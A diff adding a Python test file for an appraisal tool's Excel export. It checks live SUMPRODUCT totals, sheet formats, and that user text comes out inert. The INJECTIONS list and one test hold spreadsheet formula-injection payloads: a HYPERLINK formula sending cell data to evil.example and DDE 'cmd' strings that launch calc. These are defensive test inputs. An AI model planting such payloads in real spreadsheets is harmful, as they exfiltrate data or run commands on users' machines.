@@ -1,0 +1,133 @@
+"""The committee pack: live formulas that recalculate to the engine's totals, inert user text, report formats."""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import openpyxl
+import pytest
+
+from appraisal.export_excel import committee_pack, totals_layout
+from appraisal.io import case_from_mapping, load_case
+from appraisal.scoring import Appraisal, competition_ranks, percent_of_max
+from tests.conftest import ROOT
+
+formulas = pytest.importorskip("formulas")
+
+INJECTIONS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+              "-2+3", "\t=1+1", "=1+2"]
+
+
+def _recalculate(data: bytes, tmp_path: Path) -> dict[str, Any]:
+    """Every cell's value as the `formulas` evaluator computes it: {'TOTALS!C3': value}."""
+    path = tmp_path / "pack.xlsx"
+    path.write_bytes(data)
+    solution = formulas.ExcelModel().loads(str(path)).finish().calculate()
+    out = {}
+    for key, value in solution.items():
+        ref = key.split("]", 1)[-1].replace("'", "")
+        if ":" not in ref:
+            out[ref.upper()] = np.asarray(getattr(value, "value", value)).ravel()[0]
+    return out
+
+
+def _check_totals(case, data: bytes, tmp_path: Path) -> None:
+    ap = Appraisal(case)
+    values = _recalculate(data, tmp_path)
+    rows = totals_layout(ap)
+    for k in range(len(ap.set_ids)):
+        col = openpyxl.utils.get_column_letter(k + 2)
+        totals = ap.all_totals[k]
+        pct = percent_of_max(totals, ap.W[k], ap.max_score)
+        ranks = competition_ranks(totals)
+        for i in range(ap.n_options):
+            assert float(values[f"TOTALS!{col}{rows['totals'] + i}"]) == pytest.approx(totals[i], abs=1e-9)
+            assert 100 * float(values[f"TOTALS!{col}{rows['percent'] + i}"]) == pytest.approx(pct[i], abs=1e-9)
+            assert int(values[f"TOTALS!{col}{rows['rank'] + i}"]) == ranks[i]
+
+
+def test_sample_pack_recalculates_to_the_engine(sample_case, tmp_path: Path) -> None:
+    _check_totals(sample_case, committee_pack(sample_case), tmp_path)
+
+
+def test_formulas_are_live_sumproducts(sample_case) -> None:
+    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(sample_case)))
+    ws = wb["Totals"]
+    first = ws.cell(row=totals_layout(Appraisal(sample_case))["totals"], column=2)
+    assert first.data_type == "f"
+    assert first.value.startswith("=SUMPRODUCT(Scores!$B$2:$K$2,Weights!$C$2:$L$2)")
+    assert wb["Scores"]["B2"].value.startswith("=INDEX(Scale!")
+    assert wb["Totals"].cell(row=3, column=2).number_format == "#,##0.0"
+
+
+def test_changing_a_rating_in_the_workbook_recalculates(minimal: dict[str, Any], tmp_path: Path) -> None:
+    case = case_from_mapping(minimal, "m")
+    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(case)))
+    wb["Ratings"]["B2"] = "High"   # as_is × finance: Low → High
+    out = io.BytesIO()
+    wb.save(out)
+    minimal["scores"]["as_is"]["finance"] = "High"
+    _check_totals(case_from_mapping(minimal, "m2"), out.getvalue(), tmp_path)
+
+
+def test_formula_injection_in_names_comes_out_inert(minimal: dict[str, Any], tmp_path: Path) -> None:
+    minimal["title"] = INJECTIONS[0]
+    for option, text in zip(minimal["options"], INJECTIONS[1:4]):
+        option["name"] = text
+    minimal["criteria"][0]["name"] = INJECTIONS[4].strip() + " criterion"
+    minimal["criteria"][1]["name"] = INJECTIONS[5]
+    minimal["weight_sets"][0]["name"] = "=cmd|'/c calc'!A1"
+    minimal["councils"][0]["name"] = "@North"
+    case = case_from_mapping(minimal, "m")
+    data = committee_pack(case)
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    user_text = {case.title, *(o.name for o in case.options), *(c.name for c in case.criteria),
+                 *(w.name for w in case.weight_sets), *(c.name for c in case.councils)}
+    found = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    # Our own formulas only: built from references, never from user text.
+                    assert not any(t in cell.value for t in user_text), cell.coordinate
+                    assert "HYPERLINK" not in cell.value and "cmd" not in cell.value
+                elif isinstance(cell.value, str) and any(cell.value.startswith(t) or t in cell.value for t in user_text):
+                    found += 1
+                    assert cell.data_type == "s"
+                    if cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r}"
+    assert found >= 10
+    _check_totals(case, data, tmp_path)
+
+
+def test_sheets_formats_and_the_status_quo_marked(sample_case) -> None:
+    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(sample_case)))
+    assert wb.sheetnames == ["Read me", "Scale", "Ratings", "Scores", "Weights", "Totals", "Sensitivity", "SMAA"]
+    assert wb["Ratings"]["A2"].value == "As is (business as usual)"
+    assert wb["Ratings"]["B2"].value == "Low"
+    assert "ILLUSTRATIVE" in wb["Read me"]["A4"].value
+    smaa = wb["SMAA"]
+    assert smaa["B4"].number_format == "0%"
+    shares = [smaa.cell(row=4 + i, column=2).value for i in range(4)]
+    assert sum(shares) == pytest.approx(1.0)
+    sens = wb["Sensitivity"]
+    assert sens["B5"].number_format == "0.0%" and 0 < sens["B5"].value < 1
+
+
+def test_savings_by_year_and_council_when_the_case_has_savings() -> None:
+    path = ROOT / "data" / "strategic_partnership_2022.yaml"
+    if not path.exists():
+        pytest.skip("no shipped case with a savings section")
+    case = load_case(path)
+    wb = openpyxl.load_workbook(io.BytesIO(committee_pack(case)))
+    assert "Savings" in wb.sheetnames
+    ws = wb["Savings"]
+    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "Savings by year and council" in texts
+    money_cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, float) and "£" in c.number_format]
+    assert money_cells, "money is formatted as £"
+    council_names = {c.name for c in case.councils}
+    assert council_names <= set(texts)
